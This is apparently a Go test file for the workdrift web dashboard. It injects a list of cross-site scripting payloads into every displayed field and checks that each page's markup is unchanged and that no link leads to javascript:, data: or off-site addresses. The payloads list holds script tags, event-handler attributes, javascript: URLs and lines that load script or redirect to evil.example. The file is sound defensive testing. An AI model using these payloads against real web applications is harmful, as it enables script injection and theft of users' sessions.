package web

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strings"
	"testing"

	"github.com/workdrift/workdrift/cmd/workdrift/internal/findings"
	"github.com/workdrift/workdrift/scoring"
	"github.com/workdrift/workdrift/scoring/objective"
	"github.com/workdrift/workdrift/store"
)

// hostile returns a report and sources with a text wherever one can come from
// a configuration or from upstream.
func hostile(t *testing.T, text string) (*scoring.Report, []Source) {
	r := fullReport(t)
	r.Late = []string{text}
	o := &r.Objectives[0]
	o.ID, o.Title, o.Owner, o.State = text, text, text, objective.State(text)
	for i := range r.Windows {
		w := &r.Windows[i]
		w.Label = text
		w.Org.Objectives[0].Objective = text
		w.Org.Score(scoring.ShadowRoadmap).Verdict = text
		w.Teams[0].Team = text
	}
	return r, []Source{{Name: text, Provider: text, Failure: text}}
}

func TestHostileTextsLeaveThePageAlone(t *testing.T) {
	plain := func(r *scoring.Report, s []Source) string { return pageAt(t, "/", r, s...) }
	harmless := plain(hostile(t, "harmless"))
	want := tags(harmless)
	if len(want) < 100 || strings.Count(harmless, "harmless") < 6 {
		t.Fatalf("only %d tags and %d places for a text: the test looks at the wrong page", len(want), strings.Count(harmless, "harmless"))
	}
	withheld := func(text string) string {
		r, s := hostile(t, text)
		r.Windows[0].Org.Status, r.Windows[0].Org.Reason = scoring.SuppressedPrivacy, text
		return plain(r, s)
	}
	wantWithheld := tags(withheld("harmless"))
	effective := 0
	for _, payload := range payloads {
		body := plain(hostile(t, payload))
		if got := tags(body); fmt.Sprint(got) != fmt.Sprint(want) {
			t.Errorf("%q changes the page:\n%s", payload, body)
		}
		if got := tags(withheld(payload)); fmt.Sprint(got) != fmt.Sprint(wantWithheld) {
			t.Errorf("%q changes the page of what is withheld", payload)
		}
		// The same text, not escaped, would be seen.
		if raw := strings.ReplaceAll(harmless, "harmless", payload); fmt.Sprint(tags(raw)) != fmt.Sprint(want) {
			effective++
		}
	}
	if effective < 25 {
		t.Errorf("only %d of %d payloads would do anything", effective, len(payloads))
	}
}

// The same holds for what the other pages show: items, streams, decisions,
// edits and what is asked for.
func TestHostileTextsLeaveEveryPageAlone(t *testing.T) {
	ask := func(path, text string) string {
		r, sources := hostile(t, text)
		for i := range r.Windows { // pages lead with this window
			r.Windows[i].Label = []string{"7d", "28d", "91d", "quarter"}[i%4]
		}
		r.Objectives[0].ID = "sso"
		h := handler(t, r, func(o *Options) {
			withEverything(t)(o)
			o.Access = Access{Anyone: Triager}
			o.Sources = func() []Source { return sources }
			streams := someStreams(r)
			for i := range streams.List {
				x := &streams.List[i]
				x.Name, x.Title, x.By, x.Rule, x.Terms, x.Labels, x.Paths, x.Keys = text, text, text, text, []string{text}, []string{text}, []string{text}, []string{text}
			}
			o.Streams = func(context.Context) (*findings.Streams, error) { return streams, nil }
			o.Explain = func(_ context.Context, subject, window string) (*Explanation, error) {
				x := anExplanation(r, subject, window)
				for i := range x.Items {
					it := &x.Items[i]
					it.Key, it.Title, it.Rule, it.PartOf, it.Method, it.Gone, it.URL = text, text, text, text, text, text, "https://h.example/"+text
					it.Objectives, it.Path, it.OwnedBy = []string{text}, []string{text}, []string{text}
				}
				return x, nil
			}
			o.Overrides = func() []store.Override {
				return []store.Override{{Key: text, To: text, Role: text, Why: text, At: noon}}
			}
			o.Findings = func(*scoring.Report) []findings.Finding {
				return []findings.Finding{{ID: text, Text: text, Path: "/" + text}}
			}
		})
		return askFrom(h, path).Body.String()
	}
	for _, path := range []string{"/", "/objectives", "/objectives/sso", "/shadow", "/kill-list", "/changes", "/sources", "/decisions", "/explain?subject=x"} {
		want := tags(ask(path, "harmless"))
		for _, payload := range payloads {
			body := ask(path, payload)
			if got := tags(body); fmt.Sprint(got) != fmt.Sprint(want) {
				t.Errorf("%s: %q changes the page", path, payload)
			}
			for _, tag := range rawTags(body) {
				if lower := strings.ToLower(tag); leads.MatchString(lower) {
					t.Errorf("%s: %q leads away: %s", path, payload, tag)
				}
			}
		}
	}
}

// leads finds addresses that run something or lead elsewhere without saying so.
var leads = regexp.MustCompile(`\s(?:href|action|src|formaction)="(?:javascript:|data:|//)`)

// askFrom asks for a page.
func askFrom(h http.Handler, path string) *httptest.ResponseRecorder { return ask(h, "GET", path) }

// payloads break out of text, attributes, comments, scripts and templates.
var payloads = []string{
	`<script>alert(1)</script>`,
	`<ScRiPt>alert(1)</sCrIpT>`,
	`<script src=//evil.example/x.js></script>`,
	`<script/x>alert(1)</script>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="x" onerror="alert(1)"`,
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg/onload=alert(1)//`,
	`<body onload=alert(1)>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="javascript:alert(1)"></object>`,
	`<embed src="javascript:alert(1)">`,
	`<a href="javascript:alert(1)">click</a>`,
	`<form action="//evil.example"><input name=q>`,
	`<base href="//evil.example/">`,
	`<meta http-equiv="refresh" content="0;url=//evil.example">`,
	`<link rel=stylesheet href=//evil.example/x.css>`,
	`<style>@import '//evil.example/x.css'</style>`,
	`<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>`,
	`</td></tr></table><h1>Workdrift was here</h1>`,
	`</title><script>alert(1)</script>`,
	`</svg><script>alert(1)</script>`,
	`</main></body></html><script>alert(1)</script>`,
	`--><script>alert(1)</script><!--`,
	`<!--`,
	`<!DOCTYPE html><p>`,
	`<?xml version="1.0"?>`,
	`]]><script>alert(1)</script>`,
	`"><script>alert(1)</script>`,
	`'><script>alert(1)</script>`,
	`<x/onmouseover=alert(1)>`,
	`<details open ontoggle=alert(1)>`,
	`<marquee onstart=alert(1)>`,
	"<img src=`x`onerror=alert(1)>",
	"<\x00script>alert(1)</script>",
	"<script\x0c>alert(1)</script>",
	`" onmouseover="alert(1)`,
	`' autofocus onfocus='alert(1)`,
	`{{.Version}}{{template "status.html"}}`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`,
	`javascript:alert(1)`,
	"\u202e<script>alert(1)</script>",
	"\xff\xfe<script>alert(1)</script>",
	strings.Repeat("<b>", 500),
}

// tags returns the markup of a page in order, with the names of attributes: what
// is left when texts are taken away. A tag begins where a browser sees one, at
// a < before a letter, a slash, ! or ?, and ends at the next > outside quotes.
var values = regexp.MustCompile(`="[^"]*"`)

func tags(page string) []string {
	list := rawTags(page)
	for i := range list {
		list[i] = values.ReplaceAllString(list[i], `=""`)
	}
	return list
}

// rawTags are tags with the values of their attributes.
func rawTags(page string) []string {
	var out []string
	for i := 0; i+1 < len(page); i++ {
		if c := page[i+1] | 0x20; page[i] != '<' || (c < 'a' || c > 'z') && !strings.ContainsRune("/!?", rune(page[i+1])) {
			continue
		}
		end, quote := i+1, byte(0)
		for ; end < len(page) && (quote != 0 || page[end] != '>'); end++ {
			switch c := page[end]; {
			case quote == c:
				quote = 0
			case quote == 0 && (c == '"' || c == '\''):
				quote = c
			}
		}
		out = append(out, page[i:min(end+1, len(page))])
		i = end
	}
	return out
}
